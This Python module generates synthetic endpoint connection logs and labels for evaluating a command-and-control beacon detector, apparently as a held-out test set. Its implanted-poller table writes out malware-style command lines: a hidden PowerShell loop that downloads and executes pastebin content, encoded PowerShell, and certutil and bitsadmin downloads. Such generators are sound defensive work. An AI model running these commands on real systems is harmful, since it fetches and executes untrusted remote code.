# ruff: noqa: E501 (tables read better unbroken)
"""A second generator that shares nothing with `beacon.simulate`: for measuring, never for learning.

Its programs, folders, names, proportions and fleet sizes are its own; so is what an export leaves
out. Look-alikes of every benign class run on timers, and pollers lie where products do. It was
written while looking at seeds 1 to 5; figures are of seeds 11 to 20.
"""

import itertools
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from typing import Any, NamedTuple

import numpy as np
import polars as pl

from beacon.schema import EVENTS

Rng = np.random.Generator
START = datetime(2026, 9, 15, tzinfo=UTC)
DAY = 86_400.0
FLEETS = (20, 45, 90, 150, 240, 300, 420, 700, 1200, 2000)
SYS, PF, PF86 = r"C:\Windows\System32", r"C:\Program Files", r"C:\Program Files (x86)"
PS = SYS + r"\WindowsPowerShell\v1.0\powershell.exe"
PY, NODE, CURL = PF + r"\Python313\python.exe", PF + r"\nodejs\node.exe", SYS + r"\curl.exe"
LACKING: tuple[tuple[str, ...], ...] = (
    (),
    ("InitiatingProcessVersionInfoOriginalFileName", "InitiatingProcessVersionInfoCompanyName"),
    ("InitiatingProcessIntegrityLevel", "InitiatingProcessAccountDomain"),
    ("InitiatingProcessCreationTime", "InitiatingProcessParentCreationTime", "DeviceId"),
)
"""What an export may lack; none has bytes or a parent's command line."""


class Act(NamedTuple):
    """What a program does: `{u}` is the person, `{w}` a word of the company's, `{n}` a number.

    `rhythm` is one of: loop low high jitter, task period splay, watch period (a part of the shift),
    burst sessions size gap, jobs a day. `share` is of the machines of these roles; of a fleetwide
    act all have the same words.
    """

    kind: str
    roles: str
    share: float
    path: str
    line: str
    parent: str
    account: str
    domains: str
    rhythm: str
    fleetwide: bool = False


_A = Act
BENIGN = (
    _A("browser", "office dev", 1, PF86 + r"\Microsoft\Edge\Application\msedge.exe", "msedge.exe", "explorer.exe", "{u}", "www.bing.com|github.com|x.com", "burst 12 8 40"),
    _A("script run", "dev", 0.8, r"D:\work\{w}\.venv\Scripts\python.exe", "python.exe {w}{n}.py", "pwsh.exe|Code.exe|cmd.exe", "{u}", "api.github.com|raw.githubusercontent.com|gitlab.com", "burst 4 6 25"),
    _A("dev server", "dev", 0.6, NODE, r"node D:\work\{w}\node_modules\vite\bin\vite.js", "cmd.exe|node.exe", "{u}", "github.com|raw.githubusercontent.com", "burst 3 10 9"),
    _A("language server", "dev", 0.6, PF + r"\Microsoft VS Code\node.exe", "node.exe --stdio tsserver.js", "Code.exe", "{u}", "api.github.com|raw.githubusercontent.com", "burst 5 3 60"),
    _A("npm", "dev ci", 0.5, NODE, r"node C:\Users\{u}\AppData\Roaming\npm\npm-cli.js ci", "cmd.exe|bash.exe", "{u}", "codeload.github.com|github.com", "burst 2 25 0.6"),
    _A("pip", "dev ci", 0.4, PY, "python.exe -m pip install git+https://github.com/{w}/{w}{n}", "pwsh.exe|bash.exe", "{u}", "github.com", "burst 2 5 2"),
    _A("api shell", "dev admin", 0.4, PF + r"\PowerShell\7\pwsh.exe", "pwsh.exe -NoLogo", "WindowsTerminal.exe", "{u}", "api.github.com|gist.github.com", "burst 3 4 50"),
    _A("curl by hand", "dev admin", 0.4, CURL, "curl -sSL https://raw.githubusercontent.com/{w}/{w}{n}/main/get.sh", "bash.exe|cmd.exe|pwsh.exe", "{u}", "raw.githubusercontent.com", "burst 2 3 30"),
    _A("build light", "dev", 0.05, PY, r"python D:\work\{w}\buildlight.py", "Code.exe|pwsh.exe", "{u}", "api.github.com|gitlab.com", "watch 20|30|60"),
    _A("watch loop", "dev", 0.04, CURL, "curl -s https://api.github.com/repos/{w}/{w}{n}/actions/runs?per_page=1", "bash.exe", "{u}", "api.github.com", "watch 10|15|30"),
    _A("test runner", "dev", 0.05, NODE, r"node D:\work\{w}\node_modules\jest\bin\jest.js --watch", "cmd.exe", "{u}", "raw.githubusercontent.com", "watch 45|90"),
    _A("hobby bot", "dev office", 0.012, PY, r"python C:\Users\{u}\Documents\{w}bot\bot.py", "cmd.exe|explorer.exe", "{u}", "discord.com|api.telegram.org", "watch 25|30|50"),
    _A("desk widget", "office dev", 0.006, PS, r"powershell.exe -File C:\Users\{u}\Documents\Rainmeter\{w}.ps1", "Rainmeter.exe", "{u}", "www.reddit.com|api.github.com", "watch 300|600|900"),
    _A("job step", "ci", 1, PF + r"\PowerShell\7\pwsh.exe", r"pwsh.exe -command . 'E:\agent\_temp\{n}.ps1'", "Agent.Worker.exe", "svc-build", "github.com|api.github.com", "jobs 25"),
    _A("job node", "ci", 1, r"E:\agent\externals\node20\bin\node.exe", r"node E:\agent\_tasks\{w}\index.js", "Agent.Worker.exe", "svc-build", "raw.githubusercontent.com|github.com", "jobs 20"),
    _A("workstation runner", "dev", 0.05, PY, r"python C:\actions\_work\{w}\ci\step{n}.py", "Runner.Worker.exe", "{u}", "api.github.com|raw.githubusercontent.com", "jobs 15"),
    _A("renovate", "ci", 0.3, NODE, r"node E:\renovate\dist\renovate.js", "cmd.exe", "svc-build", "api.github.com|github.com", "task 3600 40"),
    _A("package mirror", "server", 0.06, r"D:\mirror\venv\Scripts\python.exe", r"python D:\mirror\sync.py --quiet", "svchost.exe", "svc-mirror", "github.com|codeload.github.com|raw.githubusercontent.com", "task 600|900|1800 15"),
    _A("wallboard", "kiosk", 1, NODE, r"node C:\wallboard\{w}\server.js", "cmd.exe|explorer.exe", "kiosk", "api.github.com|gitlab.com|trello.com", "loop 30 120 0.02"),
    _A("check plugin", "server", 0.5, PS, r"powershell.exe -NoLogo -NoProfile -File 'C:\ProgramData\checkmk\agent\local\{w}.ps1'", "check_mk_agent.exe", "system", "api.github.com|discord.com", "loop 60 300 0.01", True),
    _A("sensor script", "server", 0.2, PS, r"powershell.exe -File 'C:\Program Files (x86)\PRTG Network Monitor\Custom Sensors\{w}.ps1'", "PRTG Probe.exe", "system", "www.reddit.com|github.com|api.telegram.org", "task 60|300|900 5"),
    _A("uptime probe", "server", 0.05, CURL, "curl.exe -s -o NUL https://{d}/", "cmd.exe|svchost.exe", "svc-monitor", "github.com|api.telegram.org|docs.google.com", "task 60|300 2"),
    _A("alert hook", "server", 0.2, PS, r"powershell.exe -File D:\ops\alert{n}.ps1 -Method Post", "svchost.exe", "svc-ops", "discord.com|api.telegram.org", "burst 5 2 40"),
    _A("chat bot", "server", 0.04, PY, r"python.exe D:\bots\{w}\main.py", "nssm.exe|services.exe", "svc-chatops", "api.telegram.org|discord.com", "loop 20 50 0.03"),
    _A("feed puller", "server", 0.05, PY, r"python.exe D:\cti\pull_{w}.py", "svchost.exe", "svc-cti", "raw.githubusercontent.com|gist.github.com|pastebin.com", "task 300|900|3600 4"),
    _A("chef", "server", 0.7, r"C:\cinc-project\cinc\embedded\bin\ruby.exe", "ruby.exe cinc-client -L C:/cinc/client.log", "cmd.exe", "system", "github.com|raw.githubusercontent.com", "task 1800 300", True),
    _A("desired state", "server", 0.5, PS, "powershell.exe -NonInteractive -Command Start-{w}Configuration", "WmiPrvSE.exe", "system", "github.com", "task 900 20", True),
    _A("winrm play", "server ci", 0.4, PS, "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {b}", "winrshost.exe|wsmprovhost.exe", "svc-deploy", "github.com|raw.githubusercontent.com", "task 1800|3600 60", True),
    _A("managed script", "office dev", 0.6, PS, r"powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\Windows\IMECache\{w}.ps1", "AgentExecutor.exe", "system", "{w}.sharepoint.com|raw.githubusercontent.com", "task 3600 400", True),
    _A("logon script", "office", 0.7, SYS + r"\wscript.exe", r"wscript.exe \\files\netlogon\{w}.vbs", "userinit.exe|explorer.exe", "{u}", "{w}.sharepoint.com", "burst 1 2 5", True),
    _A("product updater", "office dev", 0.5, r"C:\Users\{u}\AppData\Local\{w}\resources\node.exe", r"node.exe update-check.js --silent", "{w}.exe|explorer.exe", "{u}", "github.com|api.github.com", "loop 3600 7200 0.1", True),
    _A("plugin manager", "office dev", 0.03, PF + r"\{w}\bin\python.exe", r"python.exe -m {w}.plugins --refresh", "{w}.exe", "{u}", "raw.githubusercontent.com|gitlab.com", "loop 900 3600 0.05", True),
    _A("driver helper", "office dev", 0.4, SYS + r"\rundll32.exe", r"rundll32.exe C:\Program Files\{w}\helper.dll,Poll", "svchost.exe", "system", "storage.googleapis.com", "task 14400 600", True),
    _A("sheet sync", "office", 0.006, PY, r"python.exe C:\Users\{u}\Documents\{w}\sheet.py", "svchost.exe", "{u}", "sheets.googleapis.com|docs.google.com", "task 900|1800|3600 2"),
    _A("hta board", "office", 0.3, SYS + r"\mshta.exe", r"mshta.exe \\files\apps\{w}.hta", "explorer.exe", "{u}", "{w}.sharepoint.com", "loop 300 600 0.01", True),
    _A("backup", "office admin", 0.01, CURL, r"curl.exe -T C:\Users\{u}\{w}.zip https://onedrive.live.com/{w}", "svchost.exe", "{u}", "onedrive.live.com", "task 3600|14400 5"),
)  # fmt: skip
_RAW = "raw.githubusercontent.com"
_ANY = "raw.githubusercontent.com|pastebin.com|gist.github.com|api.telegram.org|discord.com|docs.google.com|github.com|www.notion.so|paste.ee"
_DESK = "office dev admin"
POLLERS = (
    _A("emblem", "dev", 1, r"C:\Users\{u}\AppData\Local\{w}\python.exe|" + PY, r"python.exe C:\Users\{u}\AppData\Local\{w}\sync.py", "explorer.exe|cmd.exe|Code.exe", "{u}", _RAW, "loop 30 30 0.1"),
    _A("emblem inline", "dev", 1, PY, "python -c \"import urllib.request as u,time\nwhile 1: u.urlopen('https://raw.githubusercontent.com/{w}/{w}/main/t.txt').read(); time.sleep(30)\"", "cmd.exe", "{u}", _RAW, "loop 30 30 0"),
    _A("pasted shell", _DESK, 1, PS, "powershell.exe -w hidden -c \"while(1){iex (iwr https://pastebin.com/raw/{n}).Content; sleep 120}\"", "explorer.exe|cmd.exe", "{u}", "pastebin.com", "loop 60 600 0.2"),
    _A("encoded", _DESK, 1, PS, "powershell.exe -nop -w hidden -enc {b}", "explorer.exe|wscript.exe|WINWORD.EXE", "{u}", _ANY, "loop 45 1800 0.3"),
    _A("hidden task", _DESK + " server", 1, PS, r"powershell.exe -WindowStyle Hidden -File C:\ProgramData\{w}\{w}.ps1", "svchost.exe", "{u}|system", _ANY, "task 300|900|1800|3600 0|30"),
    _A("curl task", _DESK, 1, CURL, r"curl.exe -s -o C:\Users\Public\{w}.txt https://{d}/raw/{n}", "svchost.exe|cmd.exe", "{u}|system", _ANY, "task 120|300|900|1800 0|20"),
    _A("product folder", _DESK, 1, PF + r"\Common Files\{w}\python.exe|" + PF86 + r"\{w} Assist\python.exe", "python.exe svc.py", "services.exe|svchost.exe", "system|{u}", _ANY, "loop 30 1800 0.25"),
    _A("product node", _DESK, 1, PF + r"\{w} Driver Center\node.exe|C:\ProgramData\{w}\node.exe", "node.exe agent.js", "services.exe|explorer.exe", "system|{u}", _ANY, "loop 20 900 0.35"),
    _A("script host", _DESK, 1, SYS + r"\wscript.exe|" + SYS + r"\cscript.exe", r"wscript.exe //b C:\Users\{u}\AppData\Roaming\{w}.vbs", "explorer.exe|svchost.exe", "{u}", _ANY, "loop 60 1200 0.2"),
    _A("hta", _DESK, 1, SYS + r"\mshta.exe", r"mshta.exe C:\Users\{u}\Downloads\{w}.hta", "explorer.exe|OUTLOOK.EXE|EXCEL.EXE", "{u}", _ANY, "loop 30 900 0.2"),
    _A("library", _DESK, 1, SYS + r"\rundll32.exe", r"rundll32.exe C:\Users\{u}\AppData\Local\Temp\{w}.dat,Init", "explorer.exe|svchost.exe", "{u}", _ANY, "loop 60 3600 0.4"),
    _A("certutil", _DESK, 1, SYS + r"\certutil.exe", r"certutil.exe -urlcache -split -f https://{d}/raw/{n} C:\Users\Public\{w}.txt", "cmd.exe|svchost.exe", "{u}", _RAW + "|pastebin.com", "task 600|1800|3600 10"),
    _A("bitsadmin", _DESK, 1, SYS + r"\bitsadmin.exe", r"bitsadmin.exe /transfer {w} https://{d}/raw/{n} C:\ProgramData\{w}.txt", "cmd.exe|svchost.exe", "{u}|system", _ANY, "task 900|1800|3600 0"),
    _A("build engine", _DESK, 1, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\msbuild.exe", r"msbuild.exe C:\Users\{u}\AppData\Local\{w}.xml", "explorer.exe|cmd.exe", "{u}", _ANY, "loop 60 900 0.2"),
    _A("bot agent", _DESK, 1, r"C:\Users\{u}\AppData\Roaming\{w}\python.exe|" + PY, r"python.exe C:\Users\{u}\AppData\Roaming\{w}\run.py", "explorer.exe|cmd.exe", "{u}", "api.telegram.org|discord.com", "loop 10 50 0.05"),
    _A("slow node", _DESK, 1, r"C:\Users\{u}\AppData\Local\{w}\node.exe", "node.exe main.js", "explorer.exe", "{u}", _ANY, "loop 3600 7200 0.2"),
    _A("clean script", _DESK, 1, PY, r"python.exe C:\Users\{u}\{w}.py", "explorer.exe|svchost.exe", "{u}", _ANY, "loop 60 900 0.2"),
    _A("own folder task", _DESK, 1, PF + r"\PowerShell\7\pwsh.exe", r"pwsh.exe -File 'C:\Program Files\{w}\maintain.ps1'", "svchost.exe", "system", _RAW + "|api.github.com", "task 300|600|1800 0|45"),
)  # fmt: skip
_WORDS = ("alder", "birch", "cedar", "damson", "elder", "fennel", "gorse", "hazel", "iris", "juniper", "kale", "larch", "maple", "nettle", "olive", "poplar", "quince", "rowan", "sorrel", "tansy")  # fmt: skip
_BLOBS = ("aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZwBpAHQAaAB1AGIALgBjAG8AbQAvAGEA", "JAB4AD0AaQB3AHIAIABoAHQAdABwAHMAOgAvAC8AcABhAHMAdABlAC4AZQBlAC8AcgAvADEA")  # fmt: skip


def times(rng: Rng, rhythm: str, shift: tuple[float, float]) -> np.ndarray:
    """Poll times in seconds of the day, within the hours that the machine is on."""
    name, *given = rhythm.split()
    on, off = shift
    pick = [float(rng.choice([float(x) for x in part.split("|")])) for part in given]
    if name == "loop":
        low, high, jitter = pick
        period = float(np.exp(rng.uniform(np.log(low), np.log(high))))
        return _loop(rng, period, jitter * rng.uniform(0, 1.5), on, off)
    if name == "task":
        period, splay = pick
        ticks = np.arange(np.ceil(on / period), off / period) * period + rng.uniform(0, 3)
        return ticks + rng.uniform(0, splay + 0.5, ticks.size)
    if name == "watch":
        begin = rng.uniform(on, on + 0.6 * (off - on))
        return _loop(rng, pick[0], 0.03, begin, min(off, begin + rng.uniform(0.4, 5) * 3600))
    if name == "jobs":
        starts = rng.uniform(0, DAY, rng.poisson(pick[0]) + 1)
        return np.sort(
            np.concatenate([s + np.cumsum(rng.exponential(3, rng.integers(1, 9))) for s in starts])
        )
    sessions, size, gap = pick
    starts = rng.uniform(on, off, rng.poisson(sessions) + 1)
    return np.sort(
        np.concatenate(
            [s + np.cumsum(rng.lognormal(np.log(gap), 1.2, rng.poisson(size) + 1)) for s in starts]
        )
    )


def _loop(rng: Rng, period: float, jitter: float, begin: float, end: float) -> np.ndarray:
    gaps = period * (1 + jitter * rng.uniform(-1, 1, int((end - begin) / period) + 2))
    found = begin + rng.uniform(0, period) + np.cumsum(gaps + rng.exponential(0.4, gaps.size))
    return found[(found < end) & (rng.random(found.size) > 0.02)]


class _Host(NamedTuple):
    name: str
    role: str
    user: str
    shift: tuple[float, float]


def day(seed: int, hosts: int | None = None) -> tuple[pl.DataFrame, pl.DataFrame]:
    """Events and truth (host, process, domain, label, kind) of one day.

    Args:
        seed: of the company, its fleet and what its export lacks.
        hosts: machines; one of `FLEETS` where None.
    """
    rng = np.random.default_rng([seed, 7])
    count = hosts or FLEETS[seed % len(FLEETS)]
    fleet = [_host(rng, number, count) for number in range(count)]
    made = list(itertools.chain.from_iterable(_benign(rng, fleet, act) for act in BENIGN))
    implanted = rng.choice(len(POLLERS), int(rng.integers(3, 9)), replace=False)
    for number in implanted:
        made += _implant(rng, fleet, POLLERS[number])
    frame = pl.DataFrame(made).filter(pl.col("times").list.len() > 0)
    return _events(rng, frame, LACKING[seed % len(LACKING)]), _truth(frame)


def _host(rng: Rng, number: int, count: int) -> _Host:
    role = str(rng.choice(["office", "dev", "server", "admin", "ci", "kiosk"], p=[0.55, 0.2, 0.17, 0.04, 0.03, 0.01]))  # fmt: skip
    if number == 0 or (role == "ci" and count < 40):
        role = "dev"  # the emblem needs one, and a small company builds elsewhere
    stem = {"server": "SRV", "ci": "BLD", "kiosk": "TV"}.get(role, "LT")
    on = rng.normal(7.5, 0.8) * 3600
    shift = (0.0, DAY) if role in ("server", "ci", "kiosk") else (on, on + rng.normal(9, 1) * 3600)
    return _Host(
        f"{stem}-{number:04}.ad.{_WORDS[count % 20]}.test", role, f"e{7001 + number}", shift
    )


def _fill(text: str, host: _Host, word: str, number: int, domain: str, blob: str) -> str:
    marks = {"{u}": host.user, "{w}": word, "{n}": str(number), "{d}": domain, "{b}": blob}
    for mark, value in marks.items():
        text = text.replace(mark, value)
    return text


def _one(
    rng: Rng, act: Act, host: _Host, word: str, label: str, steady: Sequence[int]
) -> Iterator[dict[str, Any]]:
    """The rows of an act on a host, a domain each; `steady` fixes choices that hosts share."""

    def choose(text: str, place: int) -> str:
        options = text.split("|")
        return options[(steady[place] if steady else int(rng.integers(99))) % len(options)]

    number, blob = int(rng.integers(1, 9999)), _BLOBS[(steady[0] if steady else 1) % 2]
    path, parent = choose(act.path, 1), choose(act.parent, 2)
    account = choose(act.account, 3)
    domains = act.domains.split("|")
    several = label == "benign" and act.kind in ("browser", "wallboard", "package mirror", "npm")
    for domain in domains if several else [choose(act.domains, 4)]:
        domain = domain.replace("{w}", word)
        filled = [
            _fill(t, host, word, number, domain, blob) for t in (path, act.line, parent, account)
        ]
        yield {
            "host": host.name, "path": filled[0], "line": filled[1], "parent": filled[2],
            "account": filled[3], "domain": domain, "label": label, "kind": act.kind,
            "respawn": act.rhythm.startswith(("task", "jobs", "burst")) or "curl" in act.kind,
            "times": np.clip(times(rng, act.rhythm, host.shift), 0, DAY - 0.001).tolist(),
        }  # fmt: skip


def _benign(rng: Rng, fleet: Sequence[_Host], act: Act) -> Iterator[dict[str, Any]]:
    steady = rng.integers(0, 999, 5).tolist() if act.fleetwide else []
    shared = _WORDS[int(rng.integers(20))]
    if act.fleetwide and rng.random() < 0.25:
        return  # not every company has every product
    for host in fleet:
        if host.role in act.roles.split() and rng.random() < act.share:
            word = shared if act.fleetwide else _WORDS[int(rng.integers(20))]
            yield from _one(rng, act, host, word, "benign", steady)


def _implant(rng: Rng, fleet: Sequence[_Host], act: Act) -> Iterator[dict[str, Any]]:
    able = [host for host in fleet if host.role in act.roles.split()]
    word, steady = _WORDS[int(rng.integers(20))], rng.integers(0, 999, 5).tolist()
    for place in rng.choice(
        len(able), min(len(able), int(rng.choice([1, 1, 1, 2]))), replace=False
    ):
        yield from _one(rng, act, able[place], word, "poller", steady)


def _events(rng: Rng, frame: pl.DataFrame, lacking: Sequence[str]) -> pl.DataFrame:
    each = frame.with_row_index("act").explode("times").sort("times", maintain_order=True)
    seconds = pl.col("times")
    file = pl.col("path").str.split("\\").list.last()
    nth = pl.when("respawn").then(pl.int_range(pl.len()).over("act") * 4).otherwise(0)
    rows = each.select(
        Timestamp=pl.lit(START).dt.cast_time_unit("ns") + pl.duration(microseconds=(seconds * 1e6).cast(pl.Int64)),
        DeviceId=pl.col("host").str.head(7),
        DeviceName="host",
        ActionType=pl.lit("ConnectionSuccess"),
        RemoteUrl="domain",
        RemoteIP=pl.lit("198.51.100.9"),
        RemotePort=pl.lit(443),
        InitiatingProcessFileName=file,
        InitiatingProcessFolderPath=pl.col("path").str.to_lowercase(),
        InitiatingProcessId=1000 + pl.col("act").cast(pl.Int64) * 8 % 20_000 + nth,
        InitiatingProcessCommandLine="line",
        InitiatingProcessParentFileName="parent",
        InitiatingProcessAccountName="account",
        InitiatingProcessAccountDomain=pl.when(pl.col("account") == "system").then(pl.lit("nt authority")).otherwise(pl.lit("ad")),
        InitiatingProcessIntegrityLevel=pl.when(pl.col("account") == "system").then(pl.lit("System")).otherwise(pl.lit("Medium")),
        InitiatingProcessVersionInfoOriginalFileName=file.str.to_lowercase(),
        ReportId=pl.Series(rng.integers(0, 1 << 40, each.height)),
    )  # fmt: skip
    absent = [name for name in EVENTS if name not in rows.columns or name in lacking]
    return rows.with_columns(pl.lit(None).alias(name) for name in absent).select(
        pl.col(name).cast(dtype) for name, dtype in EVENTS.items()
    )


def _truth(frame: pl.DataFrame) -> pl.DataFrame:
    """One row a channel; malware on it makes it a poller."""
    key = {"host": pl.col("host"), "process": pl.col("path").str.split("\\").list.last(), "domain": pl.col("domain")}  # fmt: skip
    return (
        frame.select(
            **{n: e.str.to_lowercase() for n, e in key.items()}, label="label", kind="kind"
        )
        .sort(pl.col("label") == "benign", maintain_order=True)
        .unique(["host", "process", "domain"], keep="first", maintain_order=True)
    )
